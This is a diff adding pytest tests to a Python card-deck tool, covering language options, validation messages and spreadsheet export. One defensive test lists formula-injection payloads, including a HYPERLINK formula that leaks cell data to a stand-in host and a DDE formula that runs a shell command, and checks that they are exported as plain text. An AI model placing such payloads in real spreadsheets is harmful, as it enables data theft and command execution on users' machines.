@@ -7,12 +7,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+import yaml
 
 from osallisuuspeli.cli import main
 from osallisuuspeli.load import BUILTIN_DECKS, load_deck
 from osallisuuspeli.workbook import workbook
 
-from .conftest import DECKS, LANGUAGES, snapshot
+from .conftest import DECKS, LANGUAGES, first_cards, snapshot
 from .pdfcheck import squeeze, text_of
 
 
@@ -391,3 +392,84 @@ def test_a_card_list_of_more_than_1000_rows_is_refused(runner, tmp_path):
         2,
         f"osallisuuspeli: {path}, row 1,002: the file has 1,001 cards; a deck has at most 1,000: delete the rows from 1,002 down\n",
     )
+
+
+def test_lang_all_with_one_language_incomplete_names_it_and_how_to_build_the_others(runner, books, tmp_path):
+    def half_english(book):
+        for row in (3, 5):
+            book["Cards"].cell(row, 6).value = None  # title_en
+
+    path = kunta_book(books, tmp_path, half_english)
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 3, column title_en: title of card 'avoin-valmistelu' is empty\n"
+        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_en: title of card 'avustukset-ja-kannustimet' is empty\n"
+        "osallisuuspeli: the language 'en' is not complete: fill the cells above\n"
+        f"osallisuuspeli: to build the complete ones now: osallisuuspeli build --deck {path} --lang fi,sv\n",
+    )
+    assert not (tmp_path / "out").exists()
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "FI, sv", "--out", str(tmp_path / "out"), "-q"])
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["fi", "sv"]
+
+
+def test_lang_in_capitals_is_the_language(runner, tmp_path):
+    result = runner.invoke(main, ["build", "--deck", "kunta", "--lang", "SV", "--out", str(tmp_path), "-q"])
+    assert result.exit_code == 0, result.output
+    assert [p.name for p in tmp_path.iterdir()] == ["sv"]
+
+
+CRAFTED = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=2+2",
+    '=DDE("cmd";"/C calc";"A0")',
+]  # (a | would be the workbook's break mark)
+
+
+def test_export_writes_every_text_as_text_never_a_formula(runner, tmp_path):
+    """OWASP CSV injection: texts that start like a formula are string cells and read back unchanged."""
+    deck = first_cards("kunta", tmp_path / "deck", 8)
+    texts = yaml.safe_load((deck / "fi.yaml").read_text(encoding="utf-8"))
+    for card, crafted in zip(texts["cards"].values(), CRAFTED):
+        card["description"] = crafted
+    texts["name"] = "=1+2"
+    (deck / "fi.yaml").write_text(yaml.safe_dump(texts, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "deck.xlsx"
+    result = runner.invoke(main, ["export", str(deck), str(out)])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out)
+    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    cards = {c.value: c for c in book["Cards"]["C"]}  # description_fi (the municipal deck has no theme column)
+    assert all(cards[t].data_type == "s" for t in CRAFTED if not t.startswith(("\t", "\r")))
+    assert cards[CRAFTED[0]].quotePrefix is True
+    read = load_deck(out, "fi")
+    # the tool's own reader gives back what was written (its texts trimmed of leading tabs and line breaks, as YAML's are)
+    assert [c.description for c in read.cards[: len(CRAFTED)]] == [load_deck(deck, "fi").cards[i].description for i in range(len(CRAFTED))]
+    assert read.name == "=1+2"
+
+
+def test_a_text_that_does_not_fit_is_named_by_sheet_row_and_column(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("E3", "Sana " * 400))
+    result = runner.invoke(main, ["validate", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 3, column description_sv: card 2 'Öppen beredning' (avoin-valmistelu), detail side: "
+        f'the text does not fit even at 7 pt: "{"Sana " * 16}" - shorten it or choose a larger --card-size\n',
+    )
+
+
+def test_a_glyph_the_font_lacks_is_named_by_sheet_row_and_column(runner, books, tmp_path):
+    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("D5", "Kort \u0531"))
+    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "sv", "--out", str(tmp_path / "out")])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_sv: card 4 'Kort \u0531' (avustukset-ja-kannustimet), title side: "
+        "the font has no glyph for '\u0531' (U+0531) in \"Kort \u0531\"\n",
+    )
+    assert not (tmp_path / "out").exists()
